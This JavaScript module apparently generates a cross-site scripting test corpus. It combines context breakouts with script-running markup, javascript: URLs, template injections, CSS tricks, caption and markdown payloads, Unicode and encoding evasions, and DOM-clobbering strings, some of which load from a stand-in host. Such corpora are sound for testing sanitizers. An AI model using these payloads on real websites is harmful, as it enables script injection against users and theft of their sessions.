// What hostile people type, made by combining ways out of a context with things
// that run there. Each is told apart by its number: what runs calls __xss(n).
const host = '//ke-xau.example'

/** Markup that runs by itself wherever text becomes HTML. */
const markup = [
  (v) => `<script>${v}</script>`,
  (_, n) => `<script src=${host}/${n}.js></script>`,
  (v) => `<img src=x onerror=${v}>`,
  (v) => `<image src=x onerror=${v}>`,
  (v) => `<svg onload=${v}>`,
  (v) => `<svg/onload=${v}>`,
  (v) => `<svg><script>${v}</script></svg>`,
  (v) => `<svg><animate onbegin=${v} attributeName=x dur=1s>`,
  (v) => `<svg><a xlink:href="javascript:${v}"><text y=20>x`,
  (v) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${v}>#x">`,
  (v) => `<body onload=${v}>`,
  (v) => `<input autofocus onfocus=${v}>`,
  (v) => `<select autofocus onfocus=${v}>`,
  (v) => `<details open ontoggle=${v}>`,
  (v) => `<video src=x onerror=${v}>`,
  (v) => `<video><source onerror=${v}>`,
  (v) => `<audio src=x onerror=${v}>`,
  (v) => `<iframe src="javascript:parent.${v}">`,
  (v) => `<iframe srcdoc="<script>parent.${v}</script>">`,
  (v) => `<object data="javascript:${v}">`,
  (v) => `<embed src="javascript:${v}">`,
  (v) => `<marquee onstart=${v}>x</marquee>`,
  (v) => `<math><a xlink:href="javascript:${v}">x`,
  (_, n) => `<style>@import'${host}/${n}.css'</style>`,
  (_, n) => `<link rel=stylesheet href=${host}/${n}.css>`,
  (v) => `<meta http-equiv=refresh content="0;url=javascript:${v}">`,
  () => `<base href=${host}/>`,
  (v) => `<form><button formaction=javascript:${v}>x`,
  (_, n) => `<p style="background:url(${host}/${n})">`,
  (v) => `<x-y tabindex=1 autofocus onfocus=${v}>`,
  (v) => `<noscript><p title="</noscript><img src=x onerror=${v}>">`,
  (v) => `<xmp><p title="</xmp><img src=x onerror=${v}>">`,
  (v) => `<math><mtext><table><mglyph><style><img src=x onerror=${v}>`,
  (v) => `<a href="javascript:${v}">x</a>`,
  (v) => `<ScRiPt>${v}</sCrIpT>`,
  (v) => `<<script>${v}//<</script>`,
  (v) => `<img src=x:x onerror\n=\n${v}>`,
  (v) => `<img/src=x/onerror=${v}>`,
]

/** What ends the place that a text stands in. */
const breakouts = ['">', "'>", '`>', '</title>', '</textarea>', '</script>', '</style>', '</option></select>', '-->', ']]>', '</noscript>', '</template>', '</svg>', '--!>', '</p></main>']
const quick = [(v) => `<img src=x onerror=${v}>`, (v) => `<svg/onload=${v}>`, (v) => `<script>${v}</script>`, (v) => `<details open ontoggle=${v}>`,
  (v) => `<input autofocus onfocus=${v}>`, (v) => `<video src=x onerror=${v}>`, (v) => `<iframe src=javascript:parent.${v}>`,
  (v) => `<audio src=x onerror=${v}>`, (v) => `<body onload=${v}>`]

/** New attributes out of an attribute's value. */
const quotes = ['"', "'", '']
const handlers = ['onmouseover', 'onclick', 'onpointerenter', 'onanimationstart', 'onbeforetoggle', 'oncut', 'onfocusin', 'ontouchstart', 'onwheel', 'onkeydown']

const addresses = [
  (v) => `javascript:${v}`, (v) => `JaVaScRiPt:${v}`, (v) => `java\tscript:${v}`, (v) => `java\nscript:${v}`, (v) => ` javascript:${v}`,
  (v) => `\u0001javascript:${v}`, (v) => `javascript&colon;${v}`, (v) => `&#106;avascript:${v}`, (v) => `javascript:/*--></title>*/${v}`, (v) => `javascript://%0a${v}`,
  (v) => `data:text/html,<script>${v}</script>`, (v) => `data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+#${v}`, (v) => `vbscript:${v}`, (v) => `view-source:javascript:${v}`,
  (_, n) => `${host}/${n}`, (_, n) => `https:${host}/${n}`, (_, n) => `\\\\ke-xau.example\\${n}`, (_, n) => `/\\ke-xau.example/${n}`, (v) => `blob:javascript:${v}`, (v) => `feed:javascript:${v}`,
]

const scripts = [
  (v) => `';${v}//`, (v) => `";${v}//`, (v) => `\\';${v}//`, (v) => `\\";${v}//`, (v) => `\${${v}}`, (v) => `\`+${v}+\``, (v) => `*/${v}/*`, (v) => `"}];${v}//`,
  (v) => `{{constructor.constructor('${v}')()}}`, (v) => `{{${v}}}`, (v) => `<%=${v}%>`, (v) => `#{${v}}`, (v) => `{%${v}%}`, (v) => `[[${v}]]`, (v) => `@{${v}}`,
  (v) => `\\u0027;${v}//`, (v) => `\\x3cscript\\x3e${v}\\x3c/script\\x3e`, (v) => `\u2028${v}//`, (v) => `\u2029${v}//`, (v) => `<!--<script>${v}//`, (v) => `</script ><script >${v}</script >`,
  (v) => `{"__proto__":{"x":"${v}"}}`,
]

const styles = [
  (v) => `expression(${v})`, (v) => `x:expression(${v})`, (v) => `background:url(javascript:${v})`, (_, n) => `;background:url(${host}/${n});`, (_, n) => `}*{background:url(${host}/${n})}`,
  (v) => `-moz-binding:url(${host}/x.xml#${v})`, (v) => `behavior:url(#${v})`, (_, n) => `@import url(${host}/${n});`, (_, n) => `<style>::cue{background:url(${host}/${n})}</style>`,
]

const captions = [
  (v) => `<c onclick=${v}>x</c>`, (v) => `<v <script>${v}</script>>x`, (v) => `<c.x style="x" onmouseover=${v}>x</c>`, (v) => `<00:00:01.000><img src=x onerror=${v}>`, (v) => `<ruby>x<rt><svg/onload=${v}></rt></ruby>`,
  (v) => `<lang en" onload="${v}">x</lang>`, (v) => `&lt;img src=x onerror=${v}&gt;`, (v) => `&lt;script&gt;${v}&lt;/script&gt;`, (v) => `NOTE <img src=x onerror=${v}>`, (v) => `STYLE ::cue(img[onerror="${v}"]){}`,
  (v) => `00:00.000 --> 00:09.000 line:<img src=x onerror=${v}>`, (v) => `{\\an8}<font onload=${v} color=red>x</font>`,
]

const letters = [
  (v) => `＜script＞${v}＜/script＞`, (v) => `\u202e<img src=x onerror=${v}>`, (v) => `\u2066<svg/onload=${v}>\u2069`, (v) => `<\u200bscript>${v}</script>`, (v) => `<scr\u00adipt>${v}</script>`, (v) => `<ſcript>${v}</ſcript>`,
  (v) => `<ıframe onload=${v}>`, (v) => `\ufeff<script>${v}</script>`, (v) => `%3Cscript%3E${v}%3C/script%3E`, (v) => `%253Cscript%253E${v}%253C/script%253E`, (v) => `&#60;img src=x onerror=${v}&#62;`, (v) => `&#x3c;svg onload=${v}&#x3e;`,
  (v) => `&amp;lt;img src=x onerror=${v}&amp;gt;`, (v) => `\\u003cimg src=x onerror=${v}\\u003e`, (v) => `+ADw-script+AD4-${v}+ADw-/script+AD4-`, (v) => `<img src=x onerror=${v}\u3000>`, (v) => `<img\u000csrc=x\u000conerror=${v}>`, (v) => `🙂<svg/onload=${v}>🙂`,
  (v) => `ạ̈<img src=x onerror=${v}>`, (v) => `‹script›${v}‹/script›`,
]

const clobbering = ['<form name=body>', '<img name=currentScript>', '<a id=__xss><a id=__xss name=n>', '<input name=parentNode>', '<form id=x-clob><input name=attributes>', '<iframe name=top></iframe>', '<a id=location href=javascript:1>',
  '<form name=getElementById>', '<img name=cookie>', '<object name=documentElement>', '<embed name=querySelector>', '<a id=main>', '<input id=q name=q>']

const markdown = [
  (v) => `[x](javascript:${v})`, (v) => `![x](javascript:${v})`, (v) => `<javascript:${v}>`, (v) => `[x]: javascript:${v}\n[x]`, (v) => `![x](x"onerror="${v})`, (v) => `\`<img src=x onerror=${v}>\``,
  (v) => `[x](data:text/html,<script>${v}</script>)`, (v) => `[<img src=x onerror=${v}>](//x)`, (v) => `| <svg/onload=${v}> |\n|-|`, (v) => `[x](java&#115;cript:${v})`,
]

/** All payloads: { text, raw } where raw, if given, says how a page that escapes nothing writes it. */
export function payloads() {
  const list = []
  const add = (make, raw) => {
    const n = list.length
    list.push({ text: make(`__xss(${n})`, n), raw })
  }
  for (const m of markup) add(m, (t) => `<div>${t}</div>`)
  for (const b of breakouts) for (const m of quick) add((v, n) => b + m(v, n), (t) => around(b, t))
  for (const q of quotes) for (const h of handlers) add((v) => `x${q} ${h}=${q}${v}${q} x=${q}`)
  for (const q of quotes) add((v) => `${q} autofocus onfocus=${v} x=${q}`, (t) => `<input value=${q}${t}${q}>`)
  for (const list of [addresses, scripts, styles, captions, letters, markdown]) for (const m of list) add(m)
  for (const c of clobbering) add(() => c)
  return list
}

/** A page that puts a text where the way out leads out of. */
function around(breakout, text) {
  const open = { '</title>': '<title>', '</textarea>': '<textarea>', '</script>': '<script>"', '</style>': '<style>', '</option></select>': '<select><option>',
    '-->': '<!--', '--!>': '<!--', '</noscript>': '<noscript>', '</template>': '<template>', '</svg>': '<svg>' }[breakout]
  if (open) return open + text
  const quote = breakout[0]
  return /["'`]/.test(quote) ? `<input value=${quote === '`' ? '' : quote}${text}` : `<p>${text}`
}
